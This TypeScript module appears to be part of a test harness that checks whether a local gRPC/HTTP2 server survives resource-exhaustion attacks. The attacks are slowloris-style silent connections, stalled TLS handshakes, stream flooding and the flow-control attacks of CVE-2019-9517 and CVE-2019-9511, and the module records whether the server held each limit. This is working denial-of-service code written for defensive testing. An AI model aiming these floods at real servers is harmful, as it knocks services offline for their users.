import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "./attack.js";
import { RawConnection } from "./raw-connection.js";
import { END_HEADERS, END_STREAM, FrameType, frame, PREFACE, requestBlock, settings, windowUpdate } from "./wire.js";

const echo = "/grpc.testing.TestService/FullDuplexCall";
const unary = "/grpc.testing.TestService/UnaryCall";

/** Attacks that hold what the server keeps: connections, streams, answers. */
export const holds: readonly Attack[] = [
  {
    name: "50 silent connections",
    limit: "closed within 10 s",
    run: ({ port }) => closesAll(50, () => silent(port)),
  },
  {
    name: "50 connections that send HTTP/2's preface and no SETTINGS",
    limit: "closed within 10 s",
    run: ({ port }) => closesAll(50, () => silent(port, PREFACE)),
  },
  {
    name: "50 TLS handshakes that stall",
    limit: "closed within 10 s",
    // The head of a ClientHello of 512 octets that never come.
    run: ({ tlsPort }) => closesAll(50, () => silent(tlsPort, Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]))),
  },
  {
    name: "50 header blocks that never end",
    limit: "closed within 10 s",
    run: ({ port }) =>
      closesAll(50, () =>
        silent(port, Buffer.concat([PREFACE, settings(), frame(FrameType.HEADERS, 0, 1, requestBlock(echo))])),
      ),
  },
  {
    name: "20,000 streams opened and never finished, on 20 connections",
    limit: "1,000 on a connection, 200 MB for all",
    maxGrowthMb: 200,
    async run({ port }) {
      const connections = await Promise.all(Array.from({ length: 20 }, () => RawConnection.open(port)));
      for (const connection of connections) {
        for (let i = 0; i < 1000; i++) {
          connection.send(frame(FrameType.HEADERS, END_HEADERS, 2 * i + 1, requestBlock(echo)));
        }
        connection.send(frame(FrameType.HEADERS, END_HEADERS, 2001, requestBlock(echo)));
      }
      const isOneRefused = await Promise.all(connections.map((one) => one.waitFor(() => one.resets.size > 0, 5000)));
      const refusals = connections.flatMap(({ resets }) => [...resets]);
      const isHeld = isOneRefused.every(Boolean) && refusals.every(([id, code]) => id === 2001 && code === 7);
      for (const connection of connections) connection.destroy();
      return { accepted: "1,000 on each", did: `REFUSED_STREAM for the next: ${refusals.length} of 20`, isHeld };
    },
  },
  {
    name: "1,000 answers of 256 KiB that a window of 0 holds back, CVE-2019-9517",
    limit: "100 MB for a connection",
    async run({ port }) {
      const connection = await RawConnection.open(port, settings([4, 0]));
      for (let i = 0; i < 1000; i++) connection.send(...bigRequest(2 * i + 1));
      return heldBack(connection);
    },
  },
  {
    name: "the same with a window that grows by one octet a time, CVE-2019-9511",
    limit: "100 MB for a connection",
    async run({ port }) {
      const connection = await RawConnection.open(port, settings([4, 0]));
      for (let i = 0; i < 1000; i++) connection.send(...bigRequest(2 * i + 1));
      for (let i = 0; i < 1000 && !connection.isOver; i++) {
        connection.send(windowUpdate(2 * i + 1, 1));
        if (i % 10 === 0) await sleep(1);
      }
      return heldBack(connection);
    },
  },
];

/** A call to UnaryCall whose answer has 262,144 octets: SimpleRequest.response_size is field 2. */
function bigRequest(streamId: number): [Buffer, Buffer] {
  const message = Buffer.from([0x10, 0x80, 0x80, 0x10]);
  const data = Buffer.concat([Buffer.from([0, 0, 0, 0, message.length]), message]);
  return [
    frame(FrameType.HEADERS, END_HEADERS, streamId, requestBlock(unary)),
    frame(FrameType.DATA, END_STREAM, streamId, data),
  ];
}

/** Past a bound requests wait, unanswered, and whoever reads nothing then is cut off. */
async function heldBack(connection: RawConnection): ReturnType<Attack["run"]> {
  const started = performance.now();
  const isHeld = await connection.waitFor(() => connection.isOver, 30_000);
  const seconds = ((performance.now() - started) / 1000).toFixed(0);
  const { goaway } = connection;
  connection.destroy();
  return {
    accepted: "calls until 16 MiB wait",
    did: isHeld ? `GOAWAY after ${seconds} s (${goaway?.reason})` : "nothing",
    isHeld,
  };
}

async function silent(port: number, said: Uint8Array = new Uint8Array(0)): Promise<Socket> {
  const socket = connect(port, "127.0.0.1");
  socket.on("error", () => {});
  await once(socket, "connect");
  socket.resume();
  if (said.length > 0) socket.write(said);
  return socket;
}

async function closesAll(count: number, open: () => Promise<Socket>): ReturnType<Attack["run"]> {
  const started = performance.now();
  const sockets = await Promise.all(Array.from({ length: count }, open));
  const limit = new AbortController();
  const closed = sockets.map((socket) => once(socket, "close"));
  const inTime = await Promise.race([
    Promise.all(closed).then(() => true),
    sleep(15_000, false, { signal: limit.signal }).catch(() => false),
  ]);
  limit.abort();
  const seconds = (performance.now() - started) / 1000;
  for (const socket of sockets) socket.destroy();
  return {
    accepted: `${count} connections`,
    did: inTime ? `all closed after ${seconds.toFixed(1)} s` : "left open",
    isHeld: inTime && seconds < 11,
  };
}
